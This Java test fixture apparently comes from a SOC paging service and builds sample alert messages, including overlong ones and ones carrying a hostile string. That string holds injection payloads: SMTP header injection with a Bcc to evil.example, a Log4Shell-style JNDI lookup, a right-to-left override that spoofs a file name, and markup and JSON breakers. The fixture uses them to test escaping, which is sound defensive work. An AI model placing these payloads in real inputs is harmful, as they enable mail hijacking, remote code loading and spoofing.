package io.watchfloor.ops.paging.contact;

import io.watchfloor.ops.platform.id.CaseId;
import io.watchfloor.sigma.language.Level;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

/** Sample messages: usual ones, the longest, and some with hostile texts. */
public final class Messages {

    public static final Instant AT = Instant.parse("2026-11-27T03:12:09Z");

    private static final String CENTER = "https://soc.example";

    /** Characters that some receiver interprets as markup. */
    public static final String HOSTILE =
            "<!channel> @channel @here <b>x</b> [click](http://evil.example) *bold* `code` </string>"
                    + "\r\nBcc: eve@evil.example\r\n\r\nDATA\r\n.\r\n\u202Egnp.exe \u0000 {number} \"}],\"text\":\"x"
                    + " ${jndi:ldap://evil} %0d%0a & ]]> \uD83D\uDE80";

    private Messages() {}

    public static Contact contact(ContactMethod way, Map<String, String> address) {
        return new Contact("c-1", Recipient.channel("soc"), way, "SOC", address, AT);
    }

    /** A usual message of a kind. */
    public static Message usual(Message.Kind kind, Contact to) {
        return switch (kind) {
            case PAGE -> about(kind, to, "[critical] #42 Credentials dumped on dc01", List.of(credentials()));
            case WORSENED -> about(kind, to, "#42 got worse: now critical", List.of(credentials()));
            case WARNING -> about(kind, to, "#42 becomes new again in 10 minutes", List.of(credentials()));
            case ACKNOWLEDGED -> about(kind, to, "#42 has been taken by bob", List.of(credentials()));
            case RESOLVED -> about(kind, to, "#42 is resolved", List.of(credentials()));
            case DIGEST -> about(kind, to, "14 unacknowledged cases, highest critical", some(14));
            case TEST -> about(kind, to, "A test of this contact", List.of());
            case CODE -> about(kind, to, "Your code", List.of());
        };
    }

    /** A message with hostile titles and names. */
    public static Message hostile(Message.Kind kind, Contact to) {
        Message.About one = kase(666, HOSTILE, Level.HIGH, List.of(HOSTILE, HOSTILE), List.of(HOSTILE));
        return new Message("hostile", kind, to, HOSTILE, HOSTILE, cases(kind, one), CENTER + "/", AT, null);
    }

    /** A message with very long texts. */
    public static Message longest(Message.Kind kind, Contact to, String letter) {
        String text = letter.repeat(5_000);
        List<String> names = Collections.nCopies(50, text);
        Message.About one = kase(Long.MAX_VALUE, text, Level.CRITICAL, names, names);
        return new Message("k".repeat(5000), kind, to, text, text, cases(kind, one), CENTER + "/", AT, null);
    }

    private static List<Message.About> cases(Message.Kind kind, Message.About one) {
        return switch (kind) {
            case TEST, CODE -> List.of();
            case DIGEST -> IntStream.range(0, 500).mapToObj(i -> one).toList();
            case PAGE, WORSENED, WARNING, ACKNOWLEDGED, RESOLVED -> List.of(one);
        };
    }

    private static Message about(Message.Kind kind, Contact to, String subject, List<Message.About> cases) {
        String text = kind == Message.Kind.CODE
                ? "Type 481 516 at the center to prove that this contact is yours."
                : "Nobody has acknowledged this within 5 minutes, and you are on call until 08:00 (nights).";
        return new Message("page-7/ann/" + kind, kind, to, subject, text, cases, CENTER + "/", AT, null);
    }

    private static Message.About credentials() {
        return kase(
                42, "Credentials dumped", Level.CRITICAL, List.of("dc01.corp.example", "ws07"), List.of("T1003.001"));
    }

    private static List<Message.About> some(int count) {
        List<Message.About> some = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            some.add(kase(50 + i, "Brute force against mail" + i, Level.HIGH, List.of("mail" + i), List.of("T1110")));
        }
        return some;
    }

    private static Message.About kase(
            long number, String title, Level severity, List<String> assets, List<String> attack) {
        return new Message.About(
                new CaseId("case-" + number),
                number,
                title,
                severity,
                "new",
                1,
                AT.minusSeconds(300),
                assets,
                3,
                attack,
                CENTER + "/cases/case-" + number,
                CENTER + "/acknowledge/Zm9v.YmFy");
    }
}
